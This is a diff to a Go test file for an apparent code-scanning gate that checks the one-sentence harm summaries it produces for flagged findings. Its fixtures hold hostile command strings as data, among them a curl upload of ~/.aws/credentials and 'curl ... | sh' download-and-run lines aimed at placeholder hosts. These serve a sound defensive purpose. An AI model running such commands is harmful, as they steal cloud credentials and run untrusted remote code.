@@ -39,6 +39,15 @@ func TestAHarmHasOneSentence(t *testing.T) {
 			"Sends data to a server: 198.51.100.7 (line 5)"},
 		{"one line that names both", []gate.Finding{saying(on(5, "exfiltration/curl", dangerous), "sends a file", "curl -T ~/.aws/credentials https://example.com")},
 			"Sends ~/.aws to example.com (line 5)"},
+		{"a suspicion says no more than its rule", []gate.Finding{saying(on(8, "download-execute/two-programs", suspicious), "starts a download tool and a shell", "run('curl https://a.example.com')")},
+			"Starts a download tool and a shell: a.example.com (line 8)"},
+		{"a line that reads and another that sends are not known to be about the same", []gate.Finding{
+			saying(on(5, "exfiltration/facts", dangerous), "collects facts", "x = os.environ"), saying(on(5, "network/post", suspicious), "posts", "https://a.example.com")},
+			"Collects facts: a.example.com (line 5)"},
+		{"a download in text that is decoded", []gate.Finding{
+			with(saying(on(3, "download-execute/pipe", dangerous), "runs what it downloads", "curl https://a.example.com | sh"), inText),
+			flow(saying(on(7, "dynamic-code/js-decoded-flow", dangerous), "runs text that it decodes", ""), gate.Step{Line: 6, Text: "fetch('https://b.example.com')"}, gate.Step{Line: 7, Text: "b"})},
+			"Decodes text and runs it, which downloads code from a.example.com and runs that (lines 6 → 7)"},
 		{"a download", []gate.Finding{saying(on(8, "download-execute/shell-pipe", dangerous), "runs what it downloads", "curl https://a.example.com/i.sh | sh")},
 			"Downloads code from a.example.com and runs it (line 8)"},
 		{"an install script", []gate.Finding{
